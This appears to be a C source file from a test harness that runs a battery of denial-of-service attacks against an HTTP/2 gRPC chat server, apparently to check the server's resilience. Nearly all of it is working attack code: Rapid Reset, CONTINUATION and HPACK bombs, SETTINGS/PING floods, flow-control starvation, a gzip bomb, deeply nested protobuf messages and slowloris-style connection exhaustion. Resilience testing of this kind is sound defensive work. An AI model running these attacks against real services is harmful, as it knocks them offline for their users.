#include "attacks/siege/moves.h"

#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "attacks/siege/foe.h"
#include "base/util.h"
#include "wire/compress.h"

static const char chat[] = "/chat.ChatService/Chat",
                  send_message[] = "/chat.ChatService/SendMessage";

static bool goes_on(const struct move *m, const struct foe *f)
{
    return !f->closed && now_ms() < m->until_ms;
}

/* One connection, on which a step is taken until somebody ends it. */
static void besiege(struct move *m, bool deaf, void (*begin)(struct foe *f),
                    void (*step)(struct foe *f, struct move *m))
{
    struct foe f;

    m->foes++;
    m->until_ms = now_ms() + m->lasts_ms;
    if (foe_begin(&f, m->victim->port, m->victim->tls)) {
        foe_send(&f);
        foe_listen(&f, 50);
        f.deaf = deaf;
        if (begin)
            begin(&f);
        while (goes_on(m, &f)) {
            step(&f, m);
            if (!foe_send(&f))
                break;
        }
        f.deaf = false;
        foe_listen(&f, 500);
    }
    m->left += f.closed;
    foe_end(&f);
}

static uint32_t next_stream(const struct move *m)
{
    return 2 * m->sent + 1;
}

/* ---- streams that come and go --------------------------------------------------------------- */

static void open_and_reset(struct foe *f, struct move *m)
{
    for (int i = 0; i < 50; i++, m->sent++) {
        foe_request(f, next_stream(m), chat);
        vitro_frame_write_rst_stream(&f->out, next_stream(m), H2_CANCEL);
    }
}

void attack_rapid_reset(struct move *m)
{
    besiege(m, false, NULL, open_and_reset);
}

/* A window that grows over 2^31 - 1 is a mistake of its stream (RFC 9113, 6.9.1). */
static void open_and_overflow(struct foe *f, struct move *m)
{
    for (int i = 0; i < 50; i++, m->sent++) {
        foe_request(f, next_stream(m), chat);
        vitro_frame_write_window_update(&f->out, next_stream(m), INT32_MAX);
    }
}

void attack_made_you_reset(struct move *m)
{
    besiege(m, false, NULL, open_and_overflow);
}

/* ---- header blocks -------------------------------------------------------------------------- */

static void begin_endless(struct foe *f)
{
    struct buf block;

    foe_block(f, &block, chat);
    vitro_frame_write_headers(&f->out, 1, 0, vitro_buf_bytes(&block), NULL);
    vitro_buf_done(&block);
}

static void go_on_endless(struct foe *f, struct move *m)
{
    struct buf block;

    vitro_buf_init(&block, NULL, SIZE_MAX);
    while (block.len < 16000)
        vitro_buf_append(&block, "\0\1a\1b", 5); /* a: b, not indexed */
    vitro_frame_write_continuation(&f->out, 1, 0, vitro_buf_bytes(&block));
    vitro_buf_done(&block);
    m->sent++;
}

void attack_continuations(struct move *m)
{
    besiege(m, false, begin_endless, go_on_endless);
}

/* A request, then the same bytes until there are 16 KB. */
static void send_padded_block(struct foe *f, struct move *m, const char *bytes, size_t n)
{
    struct buf block;

    foe_block(f, &block, chat);
    if (n == 1 && m->sent == 0) {
        char value[4001];

        memset(value, 'v', sizeof value - 1);
        value[sizeof value - 1] = '\0';
        vitro_hpack_write(&f->encoder, &block, vitro_str_of("bomb"), vitro_str_of(value),
                          &(struct hpack_style){ .how = HPACK_HOW_INCREMENTAL });
    }
    while (block.len < 16384)
        vitro_buf_append(&block, bytes, n);
    vitro_frame_write_block(&f->out, next_stream(m), 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX,
                            NULL);
    vitro_buf_done(&block);
    m->sent++;
}

static void send_bomb(struct foe *f, struct move *m)
{
    send_padded_block(f, m, "\xbe", 1); /* the newest entry of the table, once more */
}

void attack_hpack_bomb(struct move *m)
{
    besiege(m, false, NULL, send_bomb);
}

static void send_nameless(struct foe *f, struct move *m)
{
    send_padded_block(f, m, "\0\0\0", 3);
}

void attack_nameless(struct move *m)
{
    besiege(m, false, NULL, send_nameless);
}

/* ---- floods --------------------------------------------------------------------------------- */

static void send_settings(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, 1000);
}

void attack_settings(struct move *m)
{
    besiege(m, true, NULL, send_settings);
}

static void send_pings(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        vitro_frame_write_ping(&f->out, 0, (uint8_t[8]){ 1 });
}

void attack_pings(struct move *m)
{
    besiege(m, true, NULL, send_pings);
}

static void begin_call(struct foe *f)
{
    foe_request(f, 1, chat);
}

static void send_empty_data(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        vitro_frame_write_data(&f->out, 1, 0, (vitro_bytes){ NULL, 0 }, NULL);
}

void attack_empty_data(struct move *m)
{
    besiege(m, false, begin_call, send_empty_data);
}

/* ---- windows -------------------------------------------------------------------------------- */

/* {1: "you"}: a reply of some hundred bytes. */
static const vitro_bytes hello = { (const uint8_t *)"\x0a\x03you", 5 };

static void shut_window(struct foe *f)
{
    foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, 0);
}

static void ask_a_hundred(struct foe *f, struct move *m)
{
    if (m->sent < 100) {
        foe_request(f, next_stream(m), "/chat.ChatService/GetNotifications");
        foe_message(f, next_stream(m), false, hello);
        m->sent++;
    } else {
        foe_listen(f, 100);
    }
}

void attack_zero_window(struct move *m)
{
    besiege(m, false, shut_window, ask_a_hundred);
}

static void begin_thirsty(struct foe *f)
{
    shut_window(f);
    foe_request(f, 1, "/chat.ChatService/GetNotifications");
    foe_message(f, 1, false, hello);
}

static void sip(struct foe *f, struct move *m)
{
    vitro_frame_write_window_update(&f->out, 1, 1);
    m->sent++;
}

void attack_byte_window(struct move *m)
{
    besiege(m, false, begin_thirsty, sip);
}

static void open_wide(struct foe *f)
{
    foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, INT32_MAX);
    vitro_frame_write_window_update(&f->out, 0, INT32_MAX - FRAME_DEFAULT_WINDOW);
}

/* {4: "chat.ChatService"}: a question of 23 bytes about a file of a thousand. */
static const vitro_bytes question = { (const uint8_t *)"\x22\x10"
                                                       "chat.ChatService",
                                      18 };
static const char reflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/* Sixty KB of questions, whose answers nobody reads. */
static void ask_much(struct foe *f, struct move *m)
{
    if (m->sent == 0)
        foe_request(f, 1, reflection);
    for (; m->sent < 2600; m->sent++)
        foe_data(f, 1, question);
    usleep(100000);
}

void attack_closed_tcp(struct move *m)
{
    besiege(m, true, open_wide, ask_much);
}

/* Questions without end, and no window for the answers. */
static void ask_on(struct foe *f, struct move *m)
{
    if (m->sent == 0)
        foe_request(f, 1, reflection);
    for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 100; i++, m->sent++)
        foe_data(f, 1, question);
    foe_listen(f, 1);
}

void attack_hoard(struct move *m)
{
    besiege(m, false, shut_window, ask_on);
}

/* The same with what is said returned. */
static void talk_on(struct foe *f, struct move *m)
{
    static const uint8_t text[1000] = { 0x12, 0x80 | (997 & 0x7f), 997 >> 7 };

    if (m->sent == 0)
        foe_request(f, 1, chat);
    for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 2000; i++, m->sent++)
        foe_data(f, 1, (vitro_bytes){ text, sizeof text });
    foe_listen(f, 1);
}

void attack_echo(struct move *m)
{
    besiege(m, false, shut_window, talk_on);
}

/* ---- messages ------------------------------------------------------------------------------- */

/* Call after call with this message. */
static vitro_bytes heavy;
static const char *heavy_path;
static bool heavy_compressed;

static void send_heavy(struct foe *f, struct move *m)
{
    foe_request(f, next_stream(m), heavy_path);
    foe_message(f, next_stream(m), heavy_compressed, heavy);
    m->sent++;
    foe_listen(f, 1);
}

static void weigh_down(struct move *m, const char *path, bool compressed, struct buf *message)
{
    heavy = vitro_buf_bytes(message);
    heavy_path = path;
    heavy_compressed = compressed;
    besiege(m, false, NULL, send_heavy);
    vitro_buf_done(message);
}

void attack_gzip_bomb(struct move *m)
{
    enum { SIZE = 200000000 };
    uint8_t *zeros = calloc(1, SIZE);
    struct buf bomb;

    vitro_buf_init(&bomb, NULL, SIZE_MAX);
    if (zeros && vitro_compress(ENCODING_GZIP, (vitro_bytes){ zeros, SIZE }, &bomb))
        weigh_down(m, send_message, true, &bomb);
    free(zeros);
}

/* Groups in groups: field 15 begins, and ends. */
void attack_deep(struct move *m)
{
    enum { DEPTH = 10000 };
    struct buf message;

    vitro_buf_init(&message, NULL, SIZE_MAX);
    for (size_t i = 0; i < 2 * DEPTH; i++)
        vitro_buf_append(&message, i < DEPTH ? "\x7b" : "\x7c", 1);
    weigh_down(m, send_message, false, &message);
}

/* A field of a message of ServerReflectionRequest, two million times, empty. */
void attack_empty_messages(struct move *m)
{
    enum { SIZE = 4 * 1024 * 1024 };
    struct buf message;

    vitro_buf_init(&message, NULL, SIZE_MAX);
    for (size_t i = 0; i < SIZE; i += 2)
        vitro_buf_append(&message, "\x2a\0", 2);
    weigh_down(m, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", false, &message);
}

/* ---- many connections ----------------------------------------------------------------------- */

/* So many foes that say this first; then all wait. */
static void crowd(struct move *m, unsigned n, bool whole, const void *bytes, size_t len)
{
    struct foe *foes = calloc(n, sizeof *foes);

    m->until_ms = now_ms() + m->lasts_ms;
    for (unsigned i = 0; i < n; i++, m->foes++) {
        struct foe *f = &foes[i];

        if (!(whole ? foe_begin(f, m->victim->port, false) : foe_dial(f, m->victim->port)))
            break;
        if (len)
            vitro_buf_append(&f->out, bytes, len);
        foe_send(f);
    }
    while (now_ms() < m->until_ms)
        usleep(50000);
    for (unsigned i = 0; i < m->foes; i++) {
        foe_listen(&foes[i], 1);
        m->left += foes[i].closed;
        foe_end(&foes[i]);
    }
    free(foes);
}

void attack_idle(struct move *m)
{
    struct rlimit files;

    getrlimit(RLIMIT_NOFILE, &files);
    crowd(m, (unsigned)MIN(files.rlim_cur - 100, (rlim_t)10000), true, NULL, 0);
}

void attack_slow_preface(struct move *m)
{
    crowd(m, 100, false, vitro_frame_preface, 10);
}

void attack_slow_handshake(struct move *m)
{
    static const char hello_begins[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

    crowd(m, 100, false, hello_begins, sizeof hello_begins - 1);
}

static void drip(struct foe *f, struct move *m)
{
    struct buf block, frame;

    foe_block(f, &block, chat);
    vitro_buf_init(&frame, NULL, SIZE_MAX);
    vitro_frame_write_block(&frame, 1, 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX, NULL);
    for (size_t i = 0; i < frame.len && goes_on(m, f); i++, m->sent++) {
        vitro_buf_append(&f->out, frame.ptr + i, 1);
        foe_send(f);
        foe_listen(f, 10);
    }
    vitro_buf_done(&block);
    vitro_buf_done(&frame);
    m->until_ms = 0;
}

void attack_slow_headers(struct move *m)
{
    besiege(m, false, NULL, drip);
}
